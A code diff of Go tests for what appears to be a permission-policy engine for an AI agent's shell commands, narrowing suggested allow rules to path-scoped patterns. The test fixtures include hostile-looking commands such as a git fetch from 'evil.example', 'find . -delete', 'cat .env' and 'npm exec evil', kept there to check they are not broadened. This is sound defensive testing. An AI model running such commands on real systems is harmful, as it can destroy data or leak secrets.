@@ -298,19 +298,19 @@ func TestSuggestWider(t *testing.T) {
 	f("npm test", "bash(npm test)")
 	f("pnpm cli workspace list", "bash(pnpm cli workspace list)")
 	f("make test", "bash(make test)")
-	f("go test ./...", "bash(go test ./...)", "bash(go test:*)")
-	f("grep -rn foo src | head -5", "bash(grep -rn foo src)", "bash(head -5)", "bash(grep:*)", "bash(head:*)")
-	f("timeout 60 go vet ./...", "bash(timeout 60 go vet ./...)", "bash(go vet:*)")
+	f("go test ./...", "bash(go test ./...)", "bash(go test:./**)")
+	f("grep -rn foo src | head -5", "bash(grep -rn foo src)", "bash(head -5)", "bash(grep:./**)", "bash(head:./**)")
+	f("timeout 60 go vet ./...", "bash(timeout 60 go vet ./...)", "bash(go vet:./**)")
 	f("git tag", "bash(git tag)")
 	f("git branch", "bash(git branch)")
 	f("cat .env", "bash(cat .env)")
-	f("cat a .env.example", "bash(cat a .env.example)", "bash(cat:*)")
-	f("find . -name x", "bash(find . -name x)", "bash(find:*)")
+	f("cat a .env.example", "bash(cat a .env.example)", "bash(cat:./**)")
+	f("find . -name x", "bash(find . -name x)", "bash(find:./**)")
 	f("find . -delete", "bash(find . -delete)")
 	f("git fetch https://evil.example", "bash(git fetch https://evil.example)")
 	f("./cat a", "bash(./cat a)")
 	f("ls -- -x", "bash(ls -- -x)")
-	f("gh pr view 5", "bash(gh pr view 5)", "bash(gh pr view *)")
+	f("gh pr view 5", "bash(gh pr view 5)", "bash(gh pr view:./**)")
 	f("npm exec evil", "bash(npm exec evil)")
 	f("frob run evil", "bash(frob run evil)")
 	f("poetry run evil", "bash(poetry run evil)")
@@ -337,7 +337,7 @@ func TestFinding29_NoSuggestionOpensWhatIsWrittenTo(t *testing.T) {
 			}
 		}
 	}
-	for script, wider := range map[string]string{"cat a b": "bash(cat:*)", "gh pr view 5": "bash(gh pr view *)", "go vet ./... 2>&1": "bash(go vet:*)"} {
+	for script, wider := range map[string]string{"cat a b": "bash(cat:./**)", "gh pr view 5": "bash(gh pr view:./**)", "go vet ./... 2>&1": "bash(go vet:./**)"} {
 		if v := policies[0].Judge(Call{Tool: "bash", Arguments: argument("command", script)}); len(v.Suggested) != 2 || v.Suggested[1] != wider {
 			t.Errorf("%q: %q", script, v.Suggested)
 		}
@@ -350,10 +350,10 @@ func TestFinding28_SuggestionsCoverTheScript(t *testing.T) {
 	p := mustParse(t, "tools: {bash: {resource: command, as: shell}}\nrules: [{deny: ['bash(rm *)']}, {allow: ['bash(ls *)']}]\n")
 	for script, want := range map[string][]string{
 		"npm run lint && npm run test":              {"bash(npm run lint)", "bash(npm run test)"},
-		"cd web && npm ci; npm run build | tail -5": {"bash(cd web)", "bash(npm ci)", "bash(npm run build)", "bash(tail -5)", "bash(tail:*)"},
+		"cd web && npm ci; npm run build | tail -5": {"bash(cd web)", "bash(npm ci)", "bash(npm run build)", "bash(tail -5)", "bash(tail:./**)"},
 		"npm run lint && npm run lint":              {"bash(npm run lint)"},
-		"ls x && npm run lint":                      {"bash(ls x)", "bash(npm run lint)", "bash(ls:*)"},
-		"(cd a && make) || { frob 'a b' && true; }": {"bash(cd a)", "bash(make)", "bash(frob 'a b')", "bash(true)", "bash(true:*)"},
+		"ls x && npm run lint":                      {"bash(ls x)", "bash(npm run lint)", "bash(ls:./x/**)", "bash(ls:./**)"},
+		"(cd a && make) || { frob 'a b' && true; }": {"bash(cd a)", "bash(make)", "bash(frob 'a b')", "bash(true)", "bash(true:./**)"},
 		"timeout 5 npm test && python3 x.py":        {"bash(timeout 5 npm test)", "bash(python3 x.py)"},
 		"CI=1 npm test 2>&1 && git commit -m 'a b'": {"bash(npm test)", "bash(git commit -m 'a b')"},
 		"npm run lint\nnpm run test\nnpm run build": {"bash(npm run lint)", "bash(npm run test)", "bash(npm run build)"},
